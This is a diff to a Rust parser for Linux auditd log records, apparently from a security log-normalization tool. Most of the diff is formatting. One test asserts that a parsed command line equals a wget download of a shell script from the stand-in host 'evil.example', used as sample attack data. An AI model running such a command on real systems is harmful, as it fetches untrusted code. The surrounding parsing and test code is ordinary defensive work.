@@ -13,15 +13,21 @@ use crate::util::{kv, set, set_source};
 
 /// Parses one audit record line (also inside syslog: `audispd: type=...`).
 pub fn record(ev: &mut Event, line: &str) -> bool {
-    let Some(ti) = line.find("type=") else { return false };
+    let Some(ti) = line.find("type=") else {
+        return false;
+    };
     if ti > 0 && !line[..ti].ends_with(' ') && !line[..ti].ends_with(": ") {
         return false;
     }
     let s = &line[ti..];
-    let Some(mi) = s.find(" msg=audit(") else { return false };
+    let Some(mi) = s.find(" msg=audit(") else {
+        return false;
+    };
     let rtype = &s[5..mi];
     let stamp = &s[mi + 11..];
-    let Some((ns, e)) = time::epoch(stamp.as_bytes()) else { return false };
+    let Some((ns, e)) = time::epoch(stamp.as_bytes()) else {
+        return false;
+    };
     if stamp.as_bytes().get(e) != Some(&b':') {
         return false;
     }
@@ -110,9 +116,23 @@ fn classify(ev: &mut Event, line: &str, rtype: &str, body: &str) {
                 _ => {}
             }
         }
-        "USER_AUTH" | "USER_LOGIN" | "USER_ERR" | "USER_ACCT" | "CRED_ACQ" | "USER_START" | "USER_END" | "CRED_DISP" | "USER_CMD" | "ADD_USER" | "DEL_USER" | "ADD_GROUP" | "DEL_GROUP" | "USER_MGMT" | "GRP_MGMT" | "USER_CHAUTHTOK" | "ANOM_LOGIN_FAILURES" => {
-            user_msg(ev, line, rtype, body)
-        }
+        "USER_AUTH"
+        | "USER_LOGIN"
+        | "USER_ERR"
+        | "USER_ACCT"
+        | "CRED_ACQ"
+        | "USER_START"
+        | "USER_END"
+        | "CRED_DISP"
+        | "USER_CMD"
+        | "ADD_USER"
+        | "DEL_USER"
+        | "ADD_GROUP"
+        | "DEL_GROUP"
+        | "USER_MGMT"
+        | "GRP_MGMT"
+        | "USER_CHAUTHTOK"
+        | "ANOM_LOGIN_FAILURES" => user_msg(ev, line, rtype, body),
         "CONFIG_CHANGE" | "DAEMON_END" | "SERVICE_STOP" | "DAEMON_ABORT" => {
             ev.category = Category::Configuration;
             ev.event_type = EventType::Change;
@@ -177,9 +197,21 @@ fn user_msg(ev: &mut Event, line: &str, rtype: &str, body: &str) {
         _ => Outcome::Unknown,
     };
     let (cat, etype, action) = match rtype {
-        "USER_AUTH" | "USER_ERR" => (Category::Authentication, if failed { EventType::Denied } else { EventType::Info }, "user_authentication"),
+        "USER_AUTH" | "USER_ERR" => (
+            Category::Authentication,
+            if failed {
+                EventType::Denied
+            } else {
+                EventType::Info
+            },
+            "user_authentication",
+        ),
         "USER_LOGIN" => (Category::Authentication, EventType::Start, "user_login"),
-        "USER_ACCT" => (Category::Authentication, EventType::Info, "user_account_check"),
+        "USER_ACCT" => (
+            Category::Authentication,
+            EventType::Info,
+            "user_account_check",
+        ),
         "CRED_ACQ" | "CRED_DISP" => (Category::Authentication, EventType::Info, "credentials"),
         "USER_START" => (Category::Session, EventType::Start, "session_opened"),
         "USER_END" => (Category::Session, EventType::End, "session_closed"),
@@ -189,7 +221,11 @@ fn user_msg(ev: &mut Event, line: &str, rtype: &str, body: &str) {
         "ADD_GROUP" => (Category::Iam, EventType::Creation, "group_created"),
         "DEL_GROUP" => (Category::Iam, EventType::Deletion, "group_deleted"),
         "USER_CHAUTHTOK" => (Category::Iam, EventType::Change, "password_changed"),
-        "ANOM_LOGIN_FAILURES" => (Category::Authentication, EventType::Denied, "login_failures_exceeded"),
+        "ANOM_LOGIN_FAILURES" => (
+            Category::Authentication,
+            EventType::Denied,
+            "login_failures_exceeded",
+        ),
         _ => (Category::Iam, EventType::Change, "user_modified"),
     };
     ev.category = cat;
@@ -253,7 +289,10 @@ impl Assembler {
 }
 
 fn complete(group: &mut [Event]) {
-    let Some(si) = group.iter().position(|e| e.get_str(Field::AUDITD_TYPE).as_deref() == Some("SYSCALL")) else {
+    let Some(si) = group
+        .iter()
+        .position(|e| e.get_str(Field::AUDITD_TYPE).as_deref() == Some("SYSCALL"))
+    else {
         return;
     };
     let mut argv: Vec<String> = Vec::new();
@@ -283,7 +322,11 @@ fn complete(group: &mut [Event]) {
         }
     }
     let sc = &mut group[si];
-    let cmd = if argv.is_empty() { proctitle } else { Some(argv.join(" ")) };
+    let cmd = if argv.is_empty() {
+        proctitle
+    } else {
+        Some(argv.join(" "))
+    };
     if let Some(c) = cmd {
         sc.set(Field::PROCESS_COMMAND_LINE, Val::Str(c.into()));
     }
@@ -302,9 +345,13 @@ mod tests {
     use tansa_event::Origin;
 
     fn ev(l: &str) -> Event {
-        let mut e = Event::new(bytes::Bytes::copy_from_slice(l.as_bytes()), Arc::new(Origin::default()), 0);
+        let mut e = Event::new(
+            bytes::Bytes::copy_from_slice(l.as_bytes()),
+            Arc::new(Origin::default()),
+            0,
+        );
         let raw = e.raw.clone();
-        assert!(record(&mut e, std::str::from_utf8(&raw).unwrap()), "{l}");
+        assert!(record(&mut e, raw.as_str()), "{l}");
         e
     }
 
@@ -326,20 +373,33 @@ mod tests {
         assert_eq!(out.len(), 6);
         let sc = &out[0];
         assert_eq!(sc.action, Some("process_started"));
-        assert_eq!(sc.get_str(Field::PROCESS_COMMAND_LINE).unwrap(), "wget -q http://evil.example/x.sh");
-        assert_eq!(sc.get_str(Field::PROCESS_WORKING_DIRECTORY).unwrap(), "/tmp");
+        assert_eq!(
+            sc.get_str(Field::PROCESS_COMMAND_LINE).unwrap(),
+            "wget -q http://evil.example/x.sh"
+        );
+        assert_eq!(
+            sc.get_str(Field::PROCESS_WORKING_DIRECTORY).unwrap(),
+            "/tmp"
+        );
         assert_eq!(sc.get_str(Field::USER_AUDIT_ID).unwrap(), "1001");
         assert_eq!(sc.get_str(Field::SESSION_ID).unwrap(), "7");
-        assert_eq!(tansa_event::format_ts(sc.timestamp), "2026-03-14T00:00:01.12Z");
+        assert_eq!(
+            tansa_event::format_ts(sc.timestamp),
+            "2026-03-14T00:00:01.12Z"
+        );
     }
 
     #[test]
     fn user_auth_failure_counts_once() {
-        let e = ev(r#"type=USER_AUTH msg=audit(1383116263.000:603): pid=12887 uid=0 auid=4294967295 ses=4294967295 msg='op=password acct="dan" exe="/usr/sbin/sshd" hostname=? addr=192.168.3.100 terminal=ssh res=failed'"#);
+        let e = ev(
+            r#"type=USER_AUTH msg=audit(1383116263.000:603): pid=12887 uid=0 auid=4294967295 ses=4294967295 msg='op=password acct="dan" exe="/usr/sbin/sshd" hostname=? addr=192.168.3.100 terminal=ssh res=failed'"#,
+        );
         assert_eq!(e.outcome, Outcome::Failure);
         assert_eq!(e.user_name().unwrap(), "dan");
         assert_eq!(e.source_ip.unwrap().to_string(), "192.168.3.100");
-        let e = ev(r#"type=USER_LOGIN msg=audit(1373330716.415:4063): user pid=11998 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=173.242.116.187 terminal=ssh res=failed'"#);
+        let e = ev(
+            r#"type=USER_LOGIN msg=audit(1373330716.415:4063): user pid=11998 uid=0 auid=4294967295 ses=4294967295 msg='op=login acct="root" exe="/usr/sbin/sshd" hostname=? addr=173.242.116.187 terminal=ssh res=failed'"#,
+        );
         assert_eq!(e.outcome, Outcome::Unknown);
     }
 }
